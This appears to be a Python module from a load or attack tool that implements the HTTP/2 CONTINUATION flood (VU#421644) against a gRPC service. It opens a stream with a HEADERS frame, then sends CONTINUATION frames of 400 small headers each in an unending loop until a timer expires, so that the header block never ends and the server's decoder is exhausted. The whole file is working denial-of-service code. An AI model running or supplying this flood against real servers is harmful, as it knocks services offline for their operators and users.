"""CONTINUATION flood (VU#421644): the headers of one call never end."""

from . import grpc_wire, http2

# Each frame holds whole small headers, which a decoder must take one by one.
HEADERS_PER_FRAME = 400
FRAMES_PER_WRITE = 16


def continuations(stream):
    block = b"".join(http2.header(f"x-{i}", "a" * 24) for i in range(HEADERS_PER_FRAME))
    return http2.frame(http2.CONTINUATION, 0, stream, block) * FRAMES_PER_WRITE


def turn(client, until):
    stream = client.take_stream()
    client.send(http2.frame(http2.HEADERS, 0, stream, grpc_wire.request_headers(grpc_wire.PUBLISH)), until)
    flood = continuations(stream)
    while client.send(flood, until):
        pass


def run(address, seconds):
    return grpc_wire.repeat(address, seconds, turn)
